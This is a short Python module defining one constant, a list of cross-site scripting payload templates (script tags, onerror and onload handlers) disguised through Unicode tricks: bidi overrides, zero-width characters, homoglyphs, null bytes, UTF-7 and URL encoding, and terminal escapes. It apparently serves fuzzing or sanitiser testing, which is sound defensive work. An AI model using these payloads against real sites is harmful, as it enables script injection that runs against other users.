"""Markup hidden behind signs that Unicode has for other ends."""

from __future__ import annotations

from typing import Final

UNICODE: Final = (
    "\u202e<script>{p}</script>\u202c",
    "\u2066<img src=x onerror={p}>\u2069",
    "\u200b<script>{p}</script>",
    "\ufeff<script>{p}</script>",
    "＜script＞{p}＜/script＞",
    "‹script›{p}‹/script›",
    "\u02b9\u02ba><script>{p}</script>",
    "<\u0000script>{p}</script>",
    "<scr\u0000ipt>{p}</script>",
    "<script\u000b>{p}</script>",
    "<img\u000csrc=x\u000conerror={p}>",
    "<img\u00a0src=x onerror={p}>",
    "<ſcript>{p}</ſcript>",
    "<scrıpt>{p}</scrıpt>",
    "\U000e0001\U000e003cscript\U000e003e{p}",
    "a\u0301\u0301\u0301<script>{p}</script>",
    "\u1680<svg onload={p}>",
    "\ufffe<script>{p}</script>",
    "\x1b[31m<script>{p}</script>",
    "\x1b]0;{p}\x07",
    "+ADw-script+AD4-{p}+ADw-/script+AD4-",
    "\u00bcscript\u00be{p}\u00bc/script\u00be",
    "%3Cscript%3E{p}%3C/script%3E",
    "\u2028<script>{p}</script>",
    "\x85<script>{p}</script>",
    "\u061c\u200f<b>{p}</b>",
    "\u0338<script>{p}</script>",
)
